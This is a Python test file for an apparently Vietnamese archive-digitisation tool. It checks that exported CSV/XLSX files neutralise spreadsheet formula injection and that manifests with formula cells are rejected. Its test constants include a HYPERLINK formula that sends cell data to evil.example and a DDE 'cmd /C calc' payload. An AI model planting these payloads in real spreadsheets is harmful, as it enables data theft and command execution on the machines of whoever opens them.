"""Formula injection: hostile cells through every CSV/XLSX station writes, and manifests read."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from qa import audit, stats
from station.errors import ManifestError
from station.export.catalogue import (
    CatalogueDocument,
    archivematica_rows,
    write_archivematica_csv,
    write_atom_csv,
)
from station.manifest import FIELDS, check_folder, read_manifest
from station.spreadsheet import append_text_row, csv_cell, looks_like_formula
from station.stats.report import Period, Report, ReportTable, write_xlsx
from tests.test_catalogue import folder, read_dicts

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
DDE = "-2+3+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, "@SUM(1+1)", "+A1", DDE, "\t=1+1", "\r=1+1", '-HYPERLINK("x")']
PLAIN = ["- Lưu VT", "+ Bản sao", "-5", "+84 24 3825 1234", "-", "Hồ sơ số 12", ""]


@pytest.mark.parametrize("text", [*HOSTILE, *PLAIN])
def test_csv_cells_starting_with_a_formula_sign_get_an_apostrophe(text: str) -> None:
    escaped = csv_cell(text)
    if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert escaped == "'" + text  # the spreadsheet shows the text, never runs it
    else:
        assert escaped == text


def test_numbers_stay_numbers_and_none_is_empty() -> None:
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(12.0) == 12
    assert csv_cell(None) == "" and csv_cell(True) == "True"


@pytest.mark.parametrize("text", ["=1+1", "@SUM(1+1)", "+A1", DDE, '-HYPERLINK("x")', "-5%"])
def test_formula_like_text_is_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", ["- Lưu VT", "+ Bản sao", "-5", "-1.5", "+84 24 3825", "-", "--"])
def test_plain_text_with_a_sign_is_not_a_formula(text: str) -> None:
    assert not looks_like_formula(text)


# --- writers ---------------------------------------------------------------------------------


def test_atom_csv_escapes_hostile_cells_and_metadata_csv_keeps_them(tmp_path: Path) -> None:
    hostile = folder(
        title=HYPERLINK,
        notes="@SUM(1+1)",
        physical_condition="- Lưu VT",
        documents=(CatalogueDocument(1, DDE, datetime.date(2019, 4, 1)),),
    )
    rows = read_dicts(write_atom_csv([hostile], tmp_path / "atom.csv"))
    file_row = next(row for row in rows if row["levelOfDescription"] == "File")
    item = next(row for row in rows if row["levelOfDescription"] == "Item")
    assert file_row["title"] == "'" + HYPERLINK
    assert file_row["generalNote"] == "'@SUM(1+1)"
    assert file_row["physicalCharacteristics"] == "'- Lưu VT"  # Excel shows "- Lưu VT"
    assert item["title"] == "'" + DDE
    every = [value for row in rows for value in row.values()]
    assert not [value for value in every if value[:1] in ("=", "+", "-", "@")]
    # Archivematica alone reads metadata.csv; the METS must hold the text as it is.
    meta = archivematica_rows([("objects/05-01-HS-12.pdf", hostile)])
    out = write_archivematica_csv(meta, tmp_path / "metadata" / "metadata.csv")
    assert read_dicts(out)[0]["dc.title"] == HYPERLINK


def test_stats_csv_and_xlsx_keep_hostile_labels_inert() -> None:
    table = stats.Table(["Phông (fonds)", "Pages"], [[HYPERLINK, 3], ["- Lưu VT", -2], ["@x", 1.5]])
    rows = list(csv.reader(io.StringIO(stats.to_csv(table))))
    assert rows[1:] == [["'" + HYPERLINK, "3"], ["'- Lưu VT", "-2"], ["'@x", "1.5"]]
    data = stats.to_xlsx({"backlog": table})
    sheet = openpyxl.load_workbook(io.BytesIO(data))["backlog"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        [HYPERLINK, 3],
        ["- Lưu VT", -2],
        ["@x", 1.5],
    ]
    assert sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert not formulas_in(data)


def test_report_xlsx_writes_hostile_text_as_text(tmp_path: Path) -> None:
    table = ReportTable("t", "I. Số hóa", ("STT", "Phông"), ((1, HYPERLINK), (2, "@SUM(1)")), None)
    period = Period(2026, 11, fonds="=1+1")
    report = Report("", "Báo cáo", period, datetime.date(2026, 12, 1), "", (table,))
    path = tmp_path / "r.xlsx"
    write_xlsx(report, path)
    sheet = openpyxl.load_workbook(path)["t"]
    assert sheet["B4"].value == HYPERLINK and sheet["B5"].value == "@SUM(1)"
    assert sheet["A2"].value.endswith("phông =1+1") and sheet["A4"].value == 1
    assert not formulas_in(path.read_bytes())


def test_audit_csv_escapes_hostile_cells() -> None:
    lines = audit._csv_lines([[1, "2026-12-01 10:00", "=cmd|'/C calc'!A0", "@x", "- Lưu VT"]])
    assert next(csv.reader(io.StringIO(lines))) == [
        "1",
        "2026-12-01 10:00",
        "'=cmd|'/C calc'!A0",
        "'@x",
        "'- Lưu VT",
    ]


def test_an_appended_formula_string_is_a_string_cell() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    append_text_row(sheet, ["=1+1", None, 4, "text"])
    cells = list(sheet[1])
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
    assert [c.value for c in cells] == ["=1+1", None, 4, "text"]


def formulas_in(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element in the workbook's sheets, read from the XML itself."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


# --- the manifest reader ---------------------------------------------------------------------

HEADER = [field.english for field in FIELDS]
ROW = ["05", "1", "12", "345", "05.01.345", "Hồ sơ số 12", "05/03/2019", "28/12/2019",
       "Vĩnh viễn", "Công khai", "45", "", "- Lưu VT", "Giấy giòn", ""]  # fmt: skip


def row(**changes: Any) -> list[Any]:
    values: list[Any] = list(ROW)
    for name, value in changes.items():
        values[HEADER.index(name)] = value
    return values


def write_csv(path: Path, rows: list[list[Any]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADER, *rows])
    return path


def test_csv_manifest_refuses_formula_cells_naming_row_and_column(tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "muc-luc.csv",
        [
            row(title=HYPERLINK),
            row(folder_id="05.01.346", notes="@SUM(1+1)", physical_condition=DDE),
            row(folder_id="05.01.347", start_date="\t=TODAY()"),
        ],
    )
    with pytest.raises(ManifestError) as caught:
        read_manifest(path)
    found = {(p.row, p.column) for p in caught.value.problems}
    assert found == {(2, "title"), (3, "notes"), (3, "physical_condition"), (4, "start_date")}
    assert all("formula" in p.message for p in caught.value.problems)  # one problem per cell
    text = str(caught.value)
    assert "muc-luc.csv" in text and "row 2, column 'title'" in text and "HYPERLINK" in text


def test_plain_text_with_a_list_dash_is_read(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "ok.csv", [row(title="- Lưu VT", notes="+ Bản sao\n- Bản chính")])
    (read,) = read_manifest(path)
    assert read.title == "- Lưu VT" and read.notes == "+ Bản sao\n- Bản chính"


def test_xlsx_manifest_refuses_formula_cells_but_not_a_numbering_column(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["STT", *HEADER])
    sheet.append(["=ROW()-1", *row(title='=CONCATENATE("Hồ sơ ", D2)')])
    sheet.append(["=ROW()-1", *row(folder_id="05.01.346", sheet_count="=SUM(1,2)")])
    sheet.append(["=ROW()-1", *row(folder_id="05.01.347")])
    sheet["N4"].value, sheet["N4"].data_type = "@SUM(1+1)", "s"  # text typed after an apostrophe
    path = tmp_path / "ho-so.xlsx"
    book.save(path)
    with pytest.raises(ManifestError) as caught:
        read_manifest(path)
    problems = {(p.row, p.column): p for p in caught.value.problems}
    assert set(problems) == {(2, "title"), (3, "sheet_count"), (4, "notes")}
    assert "Paste Special > Values" in problems[(2, "title")].message
    assert problems[(2, "title")].value == '=CONCATENATE("Hồ sơ ", D2)'
    assert "starts like a spreadsheet formula" in problems[(4, "notes")].message


def test_an_edit_in_the_review_app_is_held_to_the_same_rule() -> None:
    values: dict[str, object] = dict(zip(HEADER, ROW, strict=True))
    assert check_folder(values)[0] is not None
    refused, problems = check_folder({**values, "title": "=1+1"})
    assert refused is None and [(p.column, p.value) for p in problems] == [("title", "=1+1")]
